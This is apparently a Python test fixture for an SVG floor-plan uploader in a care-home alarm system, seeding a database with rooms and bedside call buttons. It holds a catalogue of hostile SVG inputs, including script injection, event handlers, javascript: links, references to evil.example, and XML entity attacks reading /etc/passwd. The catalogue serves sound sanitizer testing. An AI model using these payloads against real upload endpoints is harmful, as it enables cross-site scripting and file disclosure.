"""A home whose floors are drawn: two floors, and files that somebody may upload, good and hostile ones."""

from __future__ import annotations

from io import BytesIO

import psycopg
from PIL import Image

from ingest.registry import edit
from ingest.registry.model import Device, Gateway, Room, Site, Zone
from ingest.wire.signals import Kind

DRAWING = b"""<?xml version="1.0" encoding="utf-8"?>
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1200 600">
  <g style="fill:none;stroke:#333;stroke-width:6">
    <path d="M10 10H1190V590H10z"/><path d="M10 250H1190M10 350H1190"/>
    <path d="M300 10V250M600 10V250M900 10V250M400 350V590M800 350V590"/>
  </g>
  <text x="560" y="310" font-size="28">Corridor</text>
</svg>"""

HTML = "http://www.w3.org/1999/xhtml"
RUNS = "window.parent.postMessage('ran','*');document.title='ran'"
HOSTILE: dict[str, str] = {
    "a script": f"<script>{RUNS}</script>",
    "a script with a name space": f'<s:script xmlns:s="http://www.w3.org/2000/svg">{RUNS}</s:script>',
    "a script of HTML": f'<script xmlns="{HTML}">{RUNS}</script>',
    "a handler": f'<rect width="9" height="9" onload="{RUNS}" onclick="{RUNS}" ONMOUSEOVER="{RUNS}"/>',
    "a foreign object": f'<foreignObject><img xmlns="{HTML}" src="x" onerror="{RUNS}"/></foreignObject>',
    "an external picture": '<image href="https://evil.example/x.png" width="9" height="9"/>',
    "a picture as data": '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
    "an external use": '<use href="https://evil.example/x.svg#a"/>',
    "a use of itself": '<g id="a"><use href="#a"/><use href="#a"/></g>',
    "a link that runs": f'<a href="javascript:{RUNS}"><rect width="9" height="9"/></a>',
    "an old link that runs": f'<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:{RUNS}"><text>x</text></a>',
    "a style with url()": '<rect width="9" height="9" style="fill:url(https://evil.example/x);stroke:URL(#a)"/>',
    "an attribute with url()": '<rect width="9" fill="url(https://evil.example/x#a)" filter="url(#f)" mask="url(#m)"/>',
    "a style with an escape": '<rect width="9" height="9" style="fill:\\75 rl(https://evil.example/x)"/>',
    "a style sheet": '<style>@import "https://evil.example/x.css"; rect{fill:url(https://evil.example/x)}</style>',
    "an animation": '<rect><animate attributeName="href" to="x:x"/><set attributeName="onclick" to="x"/></rect>',
    "a script in CDATA": f"<title><![CDATA[<script>{RUNS}</script>]]></title>",
    "a script in words": f"<text>&lt;script&gt;{RUNS}&lt;/script&gt;</text>",
    "a base": '<g xml:base="https://evil.example/"><rect width="9" height="9"/></g>',
    "a style as instruction": '<?xml-stylesheet href="https://evil.example/x.css"?><rect width="9" height="9"/>',
    "a frame": f'<iframe xmlns="{HTML}" src="https://evil.example/"/><embed src="x"/><object data="x"/>',
    "a font": '<text font-family="url(https://evil.example/x)" style="font-family:expression(alert(1))">x</text>',
}
"""What stands within the drawing; it must do nothing, and the drawing still shows."""

ENTITIES = {
    "a bomb": '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>{}<text>&b;</text></svg>',
    "a file": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{}<text>&a;</text></svg>',
    "a parameter": '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>{}</svg>',
}
"""Refused as a whole."""

HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100">'


def hostile(part: str) -> bytes:
    """A drawing with one good shape and ``part``."""
    return f'{HEAD}<path d="M1 1h198v98z"/>{part}</svg>'.encode()


def photograph(width: int = 800, height: int = 500, form: str = "PNG", **options: object) -> bytes:
    """A picture as a camera or a scanner makes it."""
    out = BytesIO()
    Image.new("RGB", (width, height), "#e8e4d8").save(out, form, **options)
    return out.getvalue()


def furnish_floors(database: str) -> None:
    """Site ``house`` with two floors of rooms, a gateway and a button in each room; a room without a floor."""
    with psycopg.connect(database, autocommit=True) as connection:
        edit.add_site(connection, Site(site_id="house", name="槐荫安养院", shard=5))
        edit.add_gateway(connection, Gateway(gateway_id="gw-house", site_id="house"))
        for floor, name in ((1, "一层"), (2, "二层")):
            zone_id = f"house:f{floor}"
            edit.add_zone(connection, Zone(zone_id=zone_id, site_id="house", name=name))
            for door in range(1, 8):
                number = f"{floor}{door:02}"
                edit.add_room(
                    connection,
                    Room(room_id=f"house:{number}", site_id="house", name=f"{number} 房间", zone_id=zone_id),
                )
                edit.add_device(
                    connection,
                    Device(
                        device_id=f"house-{number}",
                        number=0,
                        site_id="house",
                        gateway_id="gw-house",
                        kind=Kind.BUTTON,
                        profile="sos_button",
                        name=f"{number} 床头呼叫",
                        room_id=f"house:{number}",
                    ),
                )
        edit.add_room(connection, Room(room_id="house:gate", site_id="house", name="大门"))
